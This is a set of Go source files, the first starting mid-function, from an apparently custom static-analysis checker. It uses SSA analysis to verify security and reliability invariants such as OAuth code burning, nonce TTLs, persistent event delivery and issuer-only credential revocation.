		last := args[len(args)-1]
		elems := SliceLitElems(last)
		if len(elems) == 0 {
			// keys... passed from a package-level slice variable
			if u, ok := last.(*ssa.UnOp); ok {
				if g, ok := u.X.(*ssa.Global); ok {
					vals, _, err := p.PkgVarElems("auth/api/iam", g.Name())
					if err == nil {
						segs = vals
					}
				}
			}
		}
		for _, el := range elems {
			if s, ok := ConstString(el); ok {
				segs = append(segs, s)
			}
		}
		if len(segs) == 0 {
			problems = append(problems, "accessor "+acc+": key prefix is not a constant")
			continue
		}
		k := strings.Join(segs, "/")
		if other, dup := seen[k]; dup {
			problems = append(problems, fmt.Sprintf("accessors %s and %s share the store %q", other, acc, k))
		}
		seen[k] = acc
	}
	r.Sites += len(all)
	if len(problems) > 0 {
		r.Bad("C05.stores.distinct", rule, "", strings.Join(problems, "; "))
		return
	}
	r.OK("C05.stores.distinct", rule, "", fmt.Sprintf("%d accessors, %d distinct prefixes", len(all), len(seen)), true)
}

// c05DeferredBurn: a deferred closure deleting the code from oauthCodeStore dominates every return except those behind `request.Code == nil`.
func c05DeferredBurn(r *Report, fn *ssa.Function) {
	p := r.P
	rule := "ORDER: the authorization code is deleted by a deferred call on every return after the code-presence check (dead after any failed attempt)"
	key := "C05.code.deferred-burn"
	if fn == nil {
		r.Lost(key, rule, "handleAccessTokenRequest not found")
		return
	}
	var def *ssa.Defer
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			d, ok := in.(*ssa.Defer)
			if !ok {
				continue
			}
			for _, cl := range closuresOfValue(d.Call.Value) {
				if len(Calls(cl, StoreOp("oauthCodeStore", "Delete"))) > 0 {
					def = d
				}
			}
		}
	}
	if def == nil {
		r.Bad(key, rule, p.Pos(fn.Pos()), "no deferred oauthCodeStore().Delete found")
		return
	}
	r.Sites++
	// the deferred closure deletes on every path (an `if` around the Delete would let a failed attempt keep the code alive)
	for _, cl := range closuresOfValue(def.Call.Value) {
		dels := Calls(cl, StoreOp("oauthCodeStore", "Delete"))
		if len(dels) == 0 {
			continue
		}
		blocked := map[*ssa.BasicBlock]bool{}
		for _, d := range dels {
			blocked[d.Block()] = true
		}
		if !blocked[cl.Blocks[0]] {
			reach := Reach(cl.Blocks[0], EdgeSet{}, blocked)
			for b := range reach {
				if _, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return); isRet && !blocked[b] {
					r.Bad(key, rule, p.Pos(dels[0].Pos()), "the deferred closure can return without deleting the code (the Delete is conditional)")
					return
				}
			}
		}
	}
	// the burn-read must be dominated by the defer
	for _, ci := range Calls(fn, StoreOp("oauthCodeStore", "GetAndDelete")) {
		if !InstrDominates(def, ci) {
			r.Bad(key, rule, p.Pos(ci.Pos()), "the code is read before the deferred burn is registered")
			return
		}
	}
	// returns not dominated by the defer must be behind Code == nil
	r.Gate(Gate{ID: "C05.code.deferred-burn", Fn: fn, MinEffects: 1,
		Effect: InstrEffect("return without the deferred burn registered", func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			return ok && !InstrDominates(def, ret)
		}),
		Check: CmpCheck("request.Code == nil", token.EQL, FieldV("", "Code"), NilV(), true)})
}

func closuresOfValue(v ssa.Value) []*ssa.Function {
	switch x := v.(type) {
	case *ssa.MakeClosure:
		if f, ok := x.Fn.(*ssa.Function); ok {
			return []*ssa.Function{f}
		}
	case *ssa.Function:
		return []*ssa.Function{x}
	}
	return nil
}

func c05BurnLoop(r *Report, fn *ssa.Function) {
	rule := "ORDER: on the failure branch of validatePresentationNonce every collected nonce is deleted"
	key := "C05.nonce.burn-all-on-error"
	if fn == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	dels := Calls(fn, StoreOp("oauthNonceStore", "Delete"))
	r.Sites += len(dels)
	loops := Loops(fn)
	for _, d := range dels {
		if InnermostLoop(loops, d.Block()) != nil {
			r.OK(key, rule, r.P.Pos(d.Pos()), "Delete inside a loop over the collected nonces", false)
			return
		}
	}
	r.Bad(key, rule, r.P.Pos(fn.Pos()), "no oauthNonceStore().Delete loop found")
}

func c05PutNoOptions(r *Report, st string) {
	p := r.P
	rule := "ARG: " + st + "().Put is called without a caller-chosen TTL option (the store's own TTL — the acceptance window — applies)"
	key := "C05.register.ttl-not-overridden." + st
	sites := p.CallSites(StoreOp(st, "Put"), false)
	r.Sites += len(sites)
	if len(sites) == 0 {
		r.Lost(key, rule, "no Put on "+st)
		return
	}
	for _, s := range sites {
		args := s.Instr.(ssa.CallInstruction).Common().Args
		last := args[len(args)-1]
		if !IsNilConst(last) {
			r.Bad(key, rule, p.Pos(s.Pos), "Put passes session options (e.g. a TTL shorter than the window in which the value is still accepted)")
			return
		}
	}
	r.OK(key, rule, p.Pos(sites[0].Pos), fmt.Sprintf("%d Put site(s) without options", len(sites)), true)
}

func c05S2STTL(r *Report) {
	p := r.P
	rule := "TABLE: the s2s nonce store TTL >= s2sMaxPresentationValidity + s2sMaxClockSkew (a nonce is remembered at least as long as its presentation is accepted)"
	key := "C05.register.s2s-ttl"
	fn := p.Func("auth/api/iam", "Wrapper", "s2sNonceStore")
	if fn == nil {
		r.Lost(key, rule, "accessor not found")
		return
	}
	calls := Calls(fn, Fn("storage", "SessionDatabase", "GetStore"))
	if len(calls) != 1 {
		r.Lost(key, rule, "GetStore call not found")
		return
	}
	ttl, ok := ConstInt(StripConv(calls[0].Common().Args[0]))
	v1, ok1 := p.ConstValue("auth/api/iam", "s2sMaxPresentationValidity")
	v2, ok2 := p.ConstValue("auth/api/iam", "s2sMaxClockSkew")
	var a, b int64
	fmt.Sscan(v1, &a)
	fmt.Sscan(v2, &b)
	r.Sites += 3
	if !ok || !ok1 || !ok2 {
		r.Lost(key, rule, "TTL is not a constant expression")
		return
	}
	if ttl < a+b {
		r.Bad(key, rule, p.Pos(calls[0].Pos()), fmt.Sprintf("TTL %dns < validity %dns + skew %dns", ttl, a, b))
		return
	}
	r.OK(key, rule, p.Pos(calls[0].Pos()), fmt.Sprintf("TTL %dns >= %dns", ttl, a+b), false)
}
