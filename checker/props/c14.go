package props

import (
	"fmt"
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func init() { Registry["C14"] = c14 }

func c14(r *Report) {
	defer c14Seed7(r)
	defer c14Seed5(r)
	p := r.P
	defer c14Audit4(r)
	const dag = "network/dag"
	r.Explanation = "Static decision of the structural conditions for at-least-once delivery to persistent subscribers: (1) in the admission write closure every successful path that admits the transaction saves the transaction event, and every successful path that stores a supplied payload saves the payload event — inside the write transaction, before commit; WritePayload saves its event in its transaction too; (2) subscribers are notified only from after-commit callbacks; (3) a job is deleted only in Finished, which is called only when the receiver reported completion (err nil ∧ finished), from the payload handler after the payload was written, or by the operator API; an unfinished notification increments the retry counter and persists the event; (4) persistent subscribers (vdr, vcr_vcs, vcr_revocations, nats, private) are registered with persistency; Network.Start resumes every notifier after the connection manager started; on resume an event is rescheduled unless its retry budget (maxRetries) is spent, and the retry budget arithmetic uses maxRetries; (5) Save schedules only events that are not yet stored, and only filtered-in ones."
	r.NotDecided = []string{"retry timing / back-off arithmetic", "what happens at each crash instant (relies on go-stoabs transaction atomicity)", "idempotence of the receivers"}
	r.Assumptions = []string{"go-stoabs runs AfterCommit callbacks only after a successful commit and discards the write transaction when the callback returns an error"}

	add := p.Func(dag, "state", "Add")
	wcl := one(anonCalling(add, Fn(dag, "dag", "add")))
	save := Fn(dag, "state", "saveEvent")
	argIs := func(name string) func(ci ssa.CallInstruction) bool {
		return func(ci ssa.CallInstruction) bool {
			for _, a := range ci.Common().Args {
				if strings.Contains(AccessPath(a, 0), name) {
					return true
				}
			}
			return false
		}
	}
	// (1)
	r.MustReach(MustReach{ID: "C14.save.tx-event-on-admission", Fn: wcl, SuccessOnly: true, Cond: ErrCheck(Fn(dag, "dag", "add")), Target: save, TargetOK: argIs("txEvent")})
	r.MustReach(MustReach{ID: "C14.save.payload-event-when-payload-supplied", Fn: wcl, SuccessOnly: true,
		Cond: CmpCheck("payload != nil", token.EQL, ParamV("payload"), NilV(), false), Target: save, TargetOK: argIs("payloadEvent")})
	r.Gate(Gate{ID: "C14.save.failure-aborts-admission", Fn: wcl, Effect: SuccessReturn(), Check: Check{Desc: "saveEvent err == nil (all sites)", Call: &save, Result: -1, Pass: ErrNil, MinSite: 2, EachSiteTested: true},
		Alt: []Check{CallCheck(Fn(dag, "dag", "isPresent"), -1, IsTrue)}, Note: "each saveEvent error returns"})
	c14FlagsMatchSaves(r, add, wcl)
	wp := p.Func(dag, "state", "WritePayload")
	wpcl := one(anonCalling(wp, save))
	r.Gate(Gate{ID: "C14.save.writepayload-event", Fn: wpcl, Effect: SuccessReturn(), Check: ErrCheck(save)})
	// the payload and the event that announces it are written in ONE write transaction (otherwise a stop between the
	// two leaves a payload nobody is told about, and the payload fetcher considers the job done)
	c14WritePayloadSameTx(r, wp, save)
	// a failed live delivery is rescheduled unless the receiver declared the event fatal
	nf := p.Func(dag, "notifier", "Notify")
	asFatal := CallCheck(Fn("std:errors", "", "As"), -1, IsFalse)
	asFatal.Desc = "errors.As(err, new(EventFatal)) is false"
	asFatal.ArgOK = func(ci ssa.CallInstruction) string {
		a := StripConv(ci.Common().Args[1])
		if mi, ok := a.(*ssa.MakeInterface); ok {
			a = mi.X
		}
		if !strings.Contains(a.Type().String(), "EventFatal") {
			return "errors.As target is " + a.Type().String() + ", not *EventFatal"
		}
		return ""
	}
	r.MustReach(MustReach{ID: "C14.notify.failed-live-delivery-is-retried", Fn: nf, Cond: asFatal, Target: Fn(dag, "notifier", "retry")})
	r.Gate(Gate{ID: "C14.notify.retry-decision-only-after-failure", Fn: nf, Effect: CallEffect(Fn("std:errors", "", "As")), Check: CallCheck(Fn(dag, "notifier", "notifyNow"), -1, NonNil)})
	// (2)
	c14NotifyOnlyAfterCommit(r)
	// (3)
	nn := p.Func(dag, "notifier", "notifyNow")
	fin := CallEffect(Fn(dag, "notifier", "Finished"))
	r.Gate(Gate{ID: "C14.finish.receiver-ok", Fn: nn, Effect: fin, Check: ErrCheck(DynField("receiver"))})
	r.Gate(Gate{ID: "C14.finish.receiver-finished", Fn: nn, Effect: fin, Check: CallCheck(DynField("receiver"), 0, IsTrue)})
	r.Own(OwnSpec{ID: "C14.own.finished", Op: "call Notifier.Finished", Sites: p.CallSites(p.FnOrImpl(dag, "Notifier", "Finished"), true), Min: 2, Owners: map[string]string{
		"(*network/dag.notifier).notifyNow":                         "receiver reported completion",
		"(*network/transport/v2.protocol).handleTransactionPayload": "payload written (the job was to fetch it)",
		"(*network.Network).CleanupSubscriberEvents":                "operator API",
	}})
	c14JobDeleteOwner(r)
	c14UnfinishedPersisted(r, nn)
	// (4)
	c14PersistentSubscribers(r)
	st := p.Func("network", "Network", "Start")
	r.Gate(Gate{ID: "C14.start.resume-each-notifier", Fn: st, Effect: SuccessReturn(), ForEach: true, Check: ErrCheck(Fn(dag, "Notifier", "Run")),
		Alt: []Check{Check{Desc: "network disabled", Pass: IsTrue, Values: fieldLoads("Network", "disabled")}}})
	c11Order(r, "C14.start.resume-after-connections", st, []Callee{Fn("network/transport", "ConnectionManager", "Start"), Fn(dag, "Notifier", "Run")})
	run := p.Func(dag, "notifier", "Run")
	c14Budget(r, run)
	c14AttemptsPositive(r)
	// only a receiver-declared fatal error ends the retries: an error of the notifier's own shelf read/write (the store may just
	// be busy) is an ordinary error (fix: it was wrapped in retry.Unrecoverable and the event was never delivered nor listed as failed)
	nn2 := p.Func("network/dag", "notifier", "notifyNow")
	fatalOnly := CallCheck(Fn("std:errors", "", "As"), -1, IsTrue)
	fatalOnly.Desc = "errors.As(err, *EventFatal)"
	r.Gate(Gate{ID: "C14.notify.only-fatal-is-unrecoverable", Fn: nn2, Effect: CallEffect(Fn("github.com/avast/retry-go/v4", "", "Unrecoverable")), Check: fatalOnly})
	r.Gate(Gate{ID: "C14.run.every-stored-event-retried", Fn: run, Effect: SuccessReturn(), Check: ErrCheck(Fn(stoabsPkg, "KVStore", "ReadShelf")),
		Alt: []Check{CallCheck(Fn(dag, "notifier", "isPersistent"), -1, IsFalse)}})
	// (5)
	sv := p.Func(dag, "notifier", "Save")
	r.Gate(Gate{ID: "C14.schedule.only-new", Fn: sv, Effect: CallEffect(Fn(dag, "notifier", "writeEvent")), Check: CallCheck(Fn("std:errors", "", "Is"), -1, IsTrue)})
	r.Gate(Gate{ID: "C14.schedule.same-db", Fn: sv, Effect: CallEffect(Fn(dag, "notifier", "writeEvent")), Check: CmpCheck("tx.Store() == p.db", token.EQL, CallV(Fn(stoabsPkg, "WriteTx", "Store"), -1), FieldV("notifier", "db"), true)})
	r.Gate(Gate{ID: "C14.schedule.read-error-propagates", Fn: sv, Effect: SuccessReturn(), Check: ErrCheck(Fn(dag, "notifier", "readEvent")),
		Alt: []Check{CallCheck(Fn("std:errors", "", "Is"), -1, IsTrue), CmpCheck("p.db == nil", token.EQL, FieldV("notifier", "db"), NilV(), true), Check{Desc: "filter rejects", Pass: IsFalse, Values: func(fn *ssa.Function) []ssa.Value {
			var out []ssa.Value
			for _, ci := range Calls(fn, DynType("NotificationFilter")) {
				if c, ok := ci.(*ssa.Call); ok {
					out = append(out, c)
				}
			}
			return out
		}}}})
}

// c14FlagsMatchSaves: the after-commit callback notifies txEvent under txAdded and payloadEvent under emitPayloadEvent;
// emitPayloadEvent is set true in the branch that saves the payload event (payload != nil), txAdded before graph.add.
func c14FlagsMatchSaves(r *Report, add, wcl *ssa.Function) {
	rule := "ORDER: every event notified after commit was saved in the admission transaction: the flag that enables a notification is set on the same branch, and not after, the corresponding saveEvent"
	key := "C14.save.flag-implies-saved"
	if add == nil || wcl == nil {
		r.Lost(key, rule, "Add / write closure not found")
		return
	}
	// in the write closure: store true to emitPayloadEvent must be in a block that dominates, or is dominated by the same
	// `payload != nil` branch as, saveEvent(payloadEvent): both reachable only via payload != nil
	g := Gate{ID: key, Fn: wcl, Check: CmpCheck("payload != nil", token.EQL, ParamV("payload"), NilV(), false),
		Effect: InstrEffect("emitPayloadEvent = true", func(in ssa.Instruction) bool {
			st, ok := in.(*ssa.Store)
			if !ok {
				return false
			}
			b, isB := ConstBool(st.Val)
			return isB && b && strings.Contains(AccessPath(st.Addr, 0), "emitPayloadEvent")
		})}
	r.Gate(g)
}

func c14NotifyOnlyAfterCommit(r *Report) {
	p := r.P
	rule := "OWN: (*state).notify is called only inside closures passed to stoabs.AfterCommit (a transaction that was not admitted is never delivered)"
	sites := p.CallSites(Fn("network/dag", "state", "notify"), true)
	n, bad := 0, 0
	for _, s := range sites {
		if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
		outer := Outer(s.Fn)
		ok := false
		for _, ci := range CallsDeep(outer, Fn(stoabsPkg, "", "AfterCommit")) {
			if cl := closureArgOf(ci, 0); cl != nil {
				for _, f := range WithAnons(cl) {
					if f == s.Fn {
						ok = true
					}
				}
			}
		}
		if !ok {
			bad++
			r.Bad("C14.notify-only-after-commit @ "+p.FuncName(outer), rule, p.Pos(s.Pos), "notify is called outside an AfterCommit callback")
		}
	}
	r.Sites += n
	if n < 3 {
		r.Lost("C14.notify-only-after-commit", rule, fmt.Sprintf("%d notify call sites", n))
	} else if bad == 0 {
		r.OK("C14.notify-only-after-commit", rule, "", fmt.Sprintf("%d call sites, all in AfterCommit closures", n), true)
	}
}

// c14JobDeleteOwner: Writer.Delete on a notifier job shelf only in Finished.
func c14JobDeleteOwner(r *Report) {
	p := r.P
	var sites []Site
	for _, s := range p.CallSites(Fn(stoabsPkg, "Writer", "Delete"), false) {
		if strings.HasPrefix(funcPkg(s.Fn), ModPath+"/network/dag") && strings.Contains(p.File(s.Pos), "notifier.go") {
			sites = append(sites, s)
		}
	}
	r.Own(OwnSpec{ID: "C14.own.job-delete", Op: "Writer.Delete in the notifier (job removal)", Sites: sites, Min: 1, Owners: map[string]string{"(*network/dag.notifier).Finished": "completion recorded"}})
}

// c14UnfinishedPersisted: on the not-finished / error paths of notifyNow the retry counter is incremented and the event is written back.
func c14UnfinishedPersisted(r *Report, nn *ssa.Function) {
	rule := "ORDER: an unfinished notification increments Retries and persists the event (stays visible as pending/failed) before the error is returned"
	key := "C14.unfinished-stays-visible"
	if nn == nil {
		r.Lost(key, rule, "notifyNow not found")
		return
	}
	var inc ssa.Instruction
	for _, b := range nn.Blocks {
		for _, in := range b.Instrs {
			if st, ok := in.(*ssa.Store); ok && FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: st.Addr}, "Retries") {
				if AddConstV(AnyV(), 1).M(st.Val) {
					inc = in
				}
			}
		}
	}
	ws := Calls(nn, Fn(stoabsPkg, "KVStore", "WriteShelf"))
	r.Sites += len(ws) + 1
	if inc == nil || len(ws) != 1 {
		r.Bad(key, rule, r.P.Pos(nn.Pos()), fmt.Sprintf("Retries++ found=%v, WriteShelf calls=%d", inc != nil, len(ws)))
		return
	}
	if !InstrDominates(inc, ws[0]) {
		r.Bad(key, rule, r.P.Pos(ws[0].Pos()), "the event is persisted before the retry counter is incremented")
		return
	}
	// the final error return (after the receiver ran) is reachable only through Retries++
	rcv := Calls(nn, DynField("receiver"))
	if len(rcv) != 1 {
		r.Lost(key, rule, "receiver call not found")
		return
	}
	for _, b := range nn.Blocks {
		ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !ok || !InstrDominates(rcv[0], ret) {
			continue
		}
		if c, isCall := ret.Results[0].(*ssa.Call); isCall && (Fn("network/dag", "notifier", "Finished").M(c.Common()) || strings.Contains(AccessPath(c, 0), "Unrecoverable(")) {
			continue
		}
		if !InstrDominates(inc, ret) {
			r.Bad(key, rule, r.P.Pos(ret.Pos()), "a return after the receiver ran bypasses Retries++ / persistence")
			return
		}
	}
	r.OK(key, rule, r.P.Pos(inc.Pos()), "Retries++ → WriteShelf → return err", true)
}

func c14PersistentSubscribers(r *Report) {
	p := r.P
	rule := "TABLE: the persistent subscribers are registered with persistency"
	want := map[string]bool{"vdr": false, "vcr_vcs": false, "vcr_revocations": false, "nats": false, "private": false}
	check := func(s Site, nameIdx int, persistName string, viaNetwork bool) {
		ci := s.Instr.(ssa.CallInstruction)
		name, ok := ConstString(StripConv(CallArg(ci.Common(), nameIdx)))
		if !ok {
			return
		}
		if _, tracked := want[name]; !tracked {
			return
		}
		has := false
		for _, el := range VariadicElems(ci) {
			if strings.Contains(AccessPath(el, 0), persistName) {
				has = true
			}
		}
		r.Sites++
		key := "C14.subscribers.persistent @ " + name
		if has {
			want[name] = true
			r.OK(key, rule, p.Pos(s.Pos), "registered with "+persistName, true)
		} else {
			r.Bad(key, rule, p.Pos(s.Pos), "subscriber "+name+" is registered without persistency: its events would not survive a restart")
			want[name] = true
		}
	}
	for _, s := range p.CallSites(Fn("network/dag", "State", "Notifier"), false) {
		if p.FileClass(p.FuncPos(s.Fn)) == "prod" {
			check(s, 0, "WithPersistency(", false)
		}
	}
	for _, s := range p.CallSites(Fn("network", "Transactions", "Subscribe"), false) {
		if p.FileClass(p.FuncPos(s.Fn)) == "prod" {
			check(s, 0, "WithPersistency(", true)
		}
	}
	for name, seen := range want {
		if !seen {
			r.Lost("C14.subscribers.persistent @ "+name, rule, "registration of subscriber "+name+" not found")
		}
	}
}

func c14Budget(r *Report, run *ssa.Function) {
	p := r.P
	rule := "TABLE: on resume an event is rescheduled while Retries < maxRetries (the retry budget), and retry() derives its attempts from maxRetries"
	key := "C14.budget.maxRetries"
	max, ok := p.ConstValue("network/dag", "maxRetries")
	if !ok || run == nil {
		r.Lost(key, rule, "maxRetries / Run not found")
		return
	}
	var maxN int64
	fmt.Sscan(max, &maxN)
	g := Gate{ID: key + ".resume", Fn: run, Check: CmpCheck("event.Retries < maxRetries", token.LSS, FieldV("Event", "Retries"), IntV(maxN), true),
		Effect: InstrEffect("append to failedAtStartup (reschedule)", func(in ssa.Instruction) bool {
			c, ok := in.(*ssa.Call)
			if !ok {
				return false
			}
			b, ok := c.Call.Value.(*ssa.Builtin)
			return ok && b.Name() == "append" && InnermostLoop(Loops(run), c.Block()) != nil
		})}
	r.Gate(g)
	// the gate above says rescheduling requires Retries < max; the converse (budget not spent ⇒ rescheduled on failure):
	// … unless the receiver declared the event fatal (fix: after a restart a fatal event was retried at once). The fatal test is
	// evaluated behind `Retries < maxRetries`, so its false edge is "budget left and not fatal": from there the event is rescheduled
	appendCall := Callee{Desc: "append(failedAtStartup, event)", M: func(cc *ssa.CallCommon) bool {
		b, ok := cc.Value.(*ssa.Builtin)
		return ok && b.Name() == "append"
	}}
	notFatal := CallCheck(Fn("std:errors", "", "As"), -1, IsFalse)
	notFatal.Desc = "errors.As(err, *EventFatal) is false"
	r.MustReach(MustReach{ID: key + ".rescheduled-while-budget-left", Fn: run, Cond: notFatal, Target: appendCall})
	r.Gate(Gate{ID: key + ".fatal-is-not-rescheduled", Fn: run, Effect: g.Effect, Check: notFatal})
	r.Gate(Gate{ID: key + ".fatal-test-only-with-budget-left", Fn: run, Effect: CallEffect(Fn("std:errors", "", "As")), Check: CmpCheck("event.Retries < maxRetries", token.LSS, FieldV("Event", "Retries"), IntV(maxN), true)})
	rt := p.Func("network/dag", "notifier", "retry")
	found := false
	if rt != nil {
		for _, b := range rt.Blocks {
			for _, in := range b.Instrs {
				if bo, ok := in.(*ssa.BinOp); ok && bo.Op == token.SUB {
					if v, ok := ConstInt(bo.X); ok && v == maxN {
						found = true
					}
				}
			}
		}
	}
	r.Sites++
	if !found {
		r.Bad(key+".attempts", rule, "", "retry() does not compute attempts as maxRetries - used")
		return
	}
	r.OK(key+".attempts", rule, "", "attempts = maxRetries - (Retries+1)", false)
}

func c14WritePayloadSameTx(r *Report, wp *ssa.Function, save Callee) {
	rule := "ORDER: WritePayload saves the payload event and writes the payload inside one and the same write transaction"
	key := "C14.save.writepayload-same-tx"
	if wp == nil {
		r.Lost(key, rule, "WritePayload not found")
		return
	}
	writes := Calls(wp, r.P.FnOrImpl(stoabsPkg, "KVStore", "Write"))
	r.Sites += len(writes)
	if len(writes) != 1 {
		r.Bad(key, rule, r.P.Pos(wp.Pos()), fmt.Sprintf("%d write transactions in WritePayload (expected exactly 1)", len(writes)))
		return
	}
	var cl *ssa.Function
	for _, a := range writes[0].Common().Args {
		if mc, ok := StripConv(a).(*ssa.MakeClosure); ok {
			cl = mc.Fn.(*ssa.Function)
			break
		}
	}
	if cl == nil {
		r.Lost(key, rule, "transaction closure not found")
		return
	}
	nSave := len(Calls(cl, save))
	nWrite := len(Calls(cl, r.P.FnOrImpl("network/dag", "PayloadStore", "writePayload")))
	if nSave == 0 || nWrite == 0 {
		r.Bad(key, rule, r.P.Pos(cl.Pos()), fmt.Sprintf("the transaction closure has %d saveEvent and %d writePayload calls", nSave, nWrite))
		return
	}
	r.OK(key, rule, r.P.Pos(cl.Pos()), "one closure, both writes", true)
}

// c14AttemptsPositive: retry-go treats Attempts(0) as "retry until it succeeds": the background retry is started only
// behind a test that the remaining number of attempts is greater than zero (otherwise an event whose budget is exactly
// spent is retried forever — the budget is not enforced).
func c14AttemptsPositive(r *Report) {
	p := r.P
	const retryPkg = "github.com/avast/retry-go/v4"
	rule := "GATE: the retry goroutine is started only if the number handed to retry.Attempts is > 0 (Attempts(0) means: forever)"
	rt := p.Func("network/dag", "notifier", "retry")
	if rt == nil {
		r.Lost("C14.budget.attempts-positive", rule, "notifier.retry not found")
		return
	}
	var cells []ssa.Value // the variable cell(s) / value(s) that end up in retry.Attempts
	for _, f := range WithAnons(rt) {
		for _, ci := range Calls(f, Fn(retryPkg, "", "Attempts")) {
			v := StripConv(CallArg(ci.Common(), 0))
			if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
				if fv, ok := u.X.(*ssa.FreeVar); ok {
					if b := FreeVarBinding(fv); b != nil {
						cells = append(cells, b)
						continue
					}
				}
				cells = append(cells, u.X)
				continue
			}
			cells = append(cells, v)
		}
	}
	if len(cells) == 0 {
		r.Lost("C14.budget.attempts-positive @ "+p.FuncName(rt), rule, "no retry.Attempts call found")
		return
	}
	attempts := VPat{Desc: "the number of attempts", M: func(v ssa.Value) bool {
		v = StripConv(v)
		for _, c := range cells {
			if v == c {
				return true
			}
			if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL && u.X == c {
				return true
			}
		}
		return false
	}}
	r.Gate(Gate{ID: "C14.budget.attempts-positive", Fn: rt,
		Effect: InstrEffect("go retry.Do(…)", func(in ssa.Instruction) bool { _, ok := in.(*ssa.Go); return ok }),
		Check:  CmpCheck("0 < attempts", token.LSS, IntV(0), attempts, true),
		Alt:    []Check{CmpCheck("1 <= attempts", token.LEQ, IntV(1), attempts, true), CmpCheck("attempts == 0 is false", token.EQL, attempts, IntV(0), false)}})
}
