package props

import (
	"fmt"
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func init() { Registry["C11"] = c11 }

func c11(r *Report) {
	defer c11Seed8(r)
	defer c11Seed5(r)
	defer c11Seed6(r)
	p := r.P
	const rev = "vcr/revocation"
	const ver = "vcr/verifier"
	r.Explanation = "Static decision of the structural conditions for effective, permanent, issuer-only revocation: (1) add-only: no gorm Delete on revocation / status-list models, every bitstring.setBit call sets (constant true), upserts of status list records replace all columns; (2) a network revocation is stored only through ValidateRevocation, subject-issuer == issuer, verification-method-issuer == issuer, key resolution at the revocation date, and proof verification; the store call has one owner; (3) the status-list verifier reports success only if no revocation-purpose entry has its bit set, uses only the list the credential names (downloaded list id == requested URL) and only after signature verification; (4) ordering on the issuing side: every re-issue of a status list credential happens inside a SQL transaction, after the row lock, from a record whose revocations were loaded in that same transaction (Preload(\"Revocations\")) or that was created in it; a new revocation row is created before the list is rebuilt and a duplicate maps to 'already revoked'; status-list index hand-out increments under a locking read inside the transaction and retries only on duplicate key; (5) the served list is the stored one only while it is far enough from expiry, otherwise it is re-signed."
	r.NotDecided = []string{"row-lock semantics of each SQL engine and actual uniqueness under concurrency", "cryptographic validity", "that every node eventually receives the revocation (C07/C14)"}
	gormZeroValue(r, "C11.sql.no-struct-condition", "a zero index/bit or empty id would drop the condition or the update", 1, nil, "vcr/revocation")
	r.Assumptions = []string{"gorm Preload loads all associated rows inside the given transaction handle", "clause.Locking / UPDLOCK give exclusive row locks until commit"}

	// (1) add-only
	for _, model := range []string{"revocationRecord", "credentialIssuerRecord", "credentialRecord"} {
		var sites []Site
		p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
			if gormModelCall(in, "Delete", model) {
				sites = append(sites, Site{Fn: fn, Instr: in, Pos: in.Pos()})
			}
		})
		r.Own(OwnSpec{ID: "C11.addonly.no-delete." + model, Op: "gorm Delete(&" + model + "{})", Sites: sites, Owners: map[string]string{}, Min: 0})
	}
	c11SetBitTrue(r)
	c11UpsertAll(r)
	c11Audit3(r)
	// the did table cascades into status_list: deleting a DID row erases set bits. Only the C13 compensation (created DIDs) may do it.
	var didDel []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		if gormModelCall(in, "Delete", "DID") {
			didDel = append(didDel, Site{Fn: fn, Instr: in, Pos: in.Pos()})
		}
	})
	r.Own(OwnSpec{ID: "C11.addonly.did-cascade", Op: "gorm Delete(&orm.DID{}) (cascades into status_list and its revocations)", Sites: didDel, Min: 2, Owners: map[string]string{
		"(*vdr/didsubject.SqlManager).transactionHelper": "compensation for a DID created in the same operation (cannot own a status list yet); gated on Type == created (C13)",
		"(*vdr/didsubject.SqlManager).Rollback":          "sweep of a never-committed creation; gated on Type == created (C13)",
		"(vdr/didsubject.SqlDIDManager).Delete":          "no production caller (checked below)",
		"(vdr/didsubject.SqlDIDManager).DeleteAll":       "no production caller (checked below)",
	}})
	for _, m := range []string{"Delete", "DeleteAll"} {
		r.Own(OwnSpec{ID: "C11.addonly.did-manager-" + m + "-unused", Op: "call DIDManager." + m, Sites: p.CallSites(p.FnOrImpl("vdr/didsubject", "DIDManager", m), true), Owners: map[string]string{}, Min: 0})
	}

	// (2) network revocations
	rr := p.Func(ver, "verifier", "RegisterRevocation")
	store := CallEffect(Fn(ver, "Store", "StoreRevocation"))
	r.Gate(Gate{ID: "C11.register.validated", Fn: rr, Effect: store, Check: ErrCheck(Fn("vcr/credential", "", "ValidateRevocation"))})
	r.Gate(Gate{ID: "C11.register.subject-issuer", Fn: rr, Effect: store, Check: CmpCheck("subjectIssuer == revocation.Issuer", token.EQL, PathV("Split(", "Subject"), PathV("String(", "Issuer"), true)})
	r.Gate(Gate{ID: "C11.register.vm-issuer", Fn: rr, Effect: store, Check: CmpCheck("vmIssuer == revocation.Issuer", token.EQL, PathV("Split(", "VerificationMethod"), PathV("String(", "Issuer"), true)})
	r.Gate(Gate{ID: "C11.register.key-resolved", Fn: rr, Effect: store, Check: ErrCheck(Fn("vdr/resolver", "KeyResolver", "ResolveKeyByID"))})
	r.Gate(Gate{ID: "C11.register.proof-parsed", Fn: rr, Effect: store, Check: ErrCheck(Fn("vcr/signature/proof", "SignedDocument", "UnmarshalProofValue"))})
	r.Gate(Gate{ID: "C11.register.signature", Fn: rr, Effect: store, Check: ErrCheck(Fn("vcr/signature/proof", "LDProof", "Verify"))})
	c17ArgFrom(r, "C11.register.key-is-resolved-key", rr, Fn("vcr/signature/proof", "LDProof", "Verify"), 2, CallV(Fn("vdr/resolver", "KeyResolver", "ResolveKeyByID"), 0), "verified with the key resolved for the revocation's verification method")
	c11ResolveAtDate(r, rr)
	r.Own(OwnSpec{ID: "C11.own.store-revocation", Op: "call verifier Store.StoreRevocation", Sites: p.CallSites(p.FnOrImpl(ver, "Store", "StoreRevocation"), true), Min: 1,
		Owners: map[string]string{"(*vcr/verifier.verifier).RegisterRevocation": "after all issuer/key/signature checks"}})
	vr := p.Func("vcr/credential", "", "ValidateRevocation")
